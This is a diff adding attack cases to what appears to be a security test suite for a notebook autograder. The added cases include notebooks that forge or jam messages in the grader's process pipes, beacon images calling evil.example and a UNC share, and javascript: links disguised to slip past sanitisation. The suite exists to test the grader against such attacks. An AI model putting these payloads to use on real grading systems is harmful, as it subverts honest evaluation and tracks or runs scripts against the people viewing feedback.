@@ -130,6 +130,35 @@ def deadlock(notebook: NotebookNode) -> NotebookNode:
 
 
 @attack(NOTEBOOK, honest=56)
+def half_an_answer(notebook: NotebookNode) -> NotebookNode:
+    """The first byte of an answer of a thousand is sent to the grader, and no more."""
+    source = """\
+        import gc, os, signal, struct, time
+        from multiprocessing.connection import Connection
+
+        signal.setitimer(signal.ITIMER_REAL, 0)
+        signal.signal(signal.SIGALRM, signal.SIG_IGN)
+        for pipe in [thing for thing in gc.get_objects() if isinstance(thing, Connection)]:
+            os.write(pipe.fileno(), struct.pack("!i", 1000) + b"{")
+        time.sleep(3600)
+        """
+    return at_end(solved(notebook, NOTEBOOK), _dedented(source))
+
+
+@attack(NOTEBOOK, honest=56)
+def grader_not_heard(notebook: NotebookNode) -> NotebookNode:
+    """The process reads no more, and the next cell is too large to wait in a pipe."""
+    source = """\
+        import gc, time
+        from multiprocessing.connection import Connection
+
+        Connection.recv_bytes = lambda *arguments: time.sleep(3600)
+        """
+    notebook = at_end(solved(notebook, NOTEBOOK), _dedented(source))
+    return at_end(notebook, f"text = {'x' * 900_000!r}")
+
+
+@attack(NOTEBOOK, honest=56)
 def waiting_widget(notebook: NotebookNode) -> NotebookNode:
     """A cell awaits a click that nobody makes."""
     return at_end(solved(notebook, NOTEBOOK), "import asyncio\nawait asyncio.Future()")
@@ -889,6 +918,30 @@ def closed_page(notebook: NotebookNode) -> NotebookNode:
         '<h1 style="position: fixed; inset: 0; z-index: 9">100 %</h1><!-- <textarea>'
     )
     return answer(solved(notebook, NOTEBOOK), nn_or_by_hand=cover)
+
+
+@attack(NOTEBOOK, honest=56)
+def beacons(notebook: NotebookNode) -> NotebookNode:
+    """Pictures lie on a machine of the student's, which learns who opens the feedback."""
+    pictures = r"![x](//evil.example/b.png) <img src='\\evil.example\share\x.png'>"
+    return answer(solved(notebook, NOTEBOOK), nn_or_by_hand=pictures)
+
+
+@attack(NOTEBOOK, honest=56)
+def spelt_links(notebook: NotebookNode) -> NotebookNode:
+    """Formulas become links to a script once the page is rid of what stands between the letters."""
+    link = "{javascript:alert(1)}{click}$"
+    parts = (rf"$\hr<x></x>ef{link}", rf"$&#92;href{link}", rf"$\\href{link}")
+    text = "\n\n".join(f"<p>{part}</p>" for part in parts) + rf" $\&#104;ref{link}"
+    return answer(solved(notebook, NOTEBOOK), nn_or_by_hand=text)
+
+
+@attack(NOTEBOOK, honest=56)
+def picture_left_behind(notebook: NotebookNode) -> NotebookNode:
+    """Texts show pictures that are not attached, or of a kind that is not taken in."""
+    notebook.cells.append(new_markdown_cell("![x](attachment:image.gif) ![y](attachment:b.svg)"))
+    notebook.cells[-1]["attachments"] = {"b.svg": {"image/svg+xml": "PHN2Zy8+"}}
+    return solved(notebook, NOTEBOOK)
 
 
 @attack(NOTEBOOK, honest=56)
